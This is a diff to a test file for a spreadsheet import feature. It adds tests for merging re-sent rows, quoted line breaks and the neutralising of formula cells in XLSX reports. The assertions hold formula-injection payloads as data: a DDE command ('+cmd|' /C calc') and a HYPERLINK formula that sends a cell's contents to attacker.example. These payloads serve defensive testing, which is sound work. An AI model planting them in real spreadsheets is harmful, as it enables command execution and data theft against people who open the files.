@@ -228,6 +228,32 @@ describe.each(dialects)('spreadsheet imports on %s', (dialect) => {
       expect(job.invalid).toBe(3);
     });
 
+    it('merges a sheet sent again by natural key, and with match=add adds its rows as new records', async () => {
+      const before = await records(acquisitionId, 'handset');
+      const merged = (await (await importFile('handsets-three-mac-notations.csv')).json()) as Job;
+      // Every row finds its record again, the invalid and the duplicate ones too.
+      expect(merged).toMatchObject({ created: 0, updated: 0, unchanged: 5 });
+      expect(await records(acquisitionId, 'handset')).toHaveLength(before.length);
+      const added = (await (
+        await importFile('handsets-three-mac-notations.csv', { match: 'add', mode: 'validate' })
+      ).json()) as Job;
+      expect(added.unchanged).toBe(0);
+      // Added again, every valid MAC is a duplicate of the handset that already has it.
+      // The first row fills the last unfilled handset of the plan; the others are new records.
+      expect(added).toMatchObject({ created: 4, updated: 1, unchanged: 0 });
+      expect(
+        added.findings.filter((f) => f.rule === 'unique' && f.field === 'mac').map((f) => f.row),
+      ).toEqual([2, 3, 4, 7]);
+    });
+
+    it('keeps a line break inside a quoted cell', async () => {
+      await importFile('users-utf-8-bom.csv');
+      const chloe = (await records(acquisitionId, 'user')).find(
+        (u) => u.values.firstName === 'Chloé',
+      );
+      expect(chloe?.values.department).toBe('Building Services');
+    });
+
     it('reads XLSX cells as text, as they appear: no date from a number, a formula by its stored result', async () => {
       const response = await importFile('handsets-excel.xlsx', { mode: 'validate' });
       expect(response.status).toBe(201);
@@ -309,6 +335,14 @@ describe.each(dialects)('spreadsheet imports on %s', (dialect) => {
       expect(report).toContain(`'@SUM(1+1)`);
       expect(report).toContain(`,'+cmd|' /C calc'!A0,`);
       expect(report).not.toMatch(/(^|,)[=+@]/m);
+      // In the XLSX report the same cells are text, in text format: they show as typed and never run.
+      const xlsx = await fetch(url(`/imports/${job.id}/report?format=xlsx`), { headers: sales() });
+      const workbook = new ExcelJS.Workbook();
+      await workbook.xlsx.load(await xlsx.arrayBuffer());
+      const cell = workbook.worksheets[0]!.getCell('A2');
+      expect(cell.type).toBe(ExcelJS.ValueType.String);
+      expect(cell.value).toBe('=HYPERLINK("http://attacker.example/?leak="&A2,"Click me")');
+      expect(cell.numFmt).toBe('@');
     });
   });
 
